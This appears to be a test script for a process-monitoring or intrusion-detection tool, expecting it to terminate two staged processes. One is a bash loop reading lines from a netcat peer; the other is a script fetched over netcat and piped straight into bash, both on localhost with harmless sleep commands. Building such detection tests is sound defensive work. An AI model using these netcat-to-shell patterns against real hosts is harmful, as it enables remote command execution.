# R44t: twin: a loop reads what a peer sends, and a script is fetched for a shell
# stage: equipped
# expect: process_terminated
#   process.process_id: $feed
# expect: process_terminated
#   process.process_id: $shell

#: prepare
. lib/peers.sh
commander 4645 4 'line'
python3 -c '
import socket, time
server = socket.create_server(("", 4646)); connection, _ = server.accept()
connection.recv(4096)
for _ in range(8): connection.sendall(b"sleep 0.1\n"); time.sleep(0.5)' > /dev/null 2>&1 &
await 'grep -q ":1226 0*:0000 0A" /proc/net/tcp'
#: act
. lib/peers.sh
act
echo 'nc.openbsd -d 127.0.0.1 4645 | while read -r line; do sleep 0.1; done' > /tmp/r44t
bash --norc < /tmp/r44t > /dev/null 2>&1 & fact feed $!
echo GET | nc.openbsd 127.0.0.1 4646 2> /dev/null | bash -s r44t > /dev/null 2>&1 &
who shell 'bash -s r44t'
await '! [ -e /proc/$shell ] && ! [ -e /proc/$feed ]'
#: clean
rm /tmp/r44t
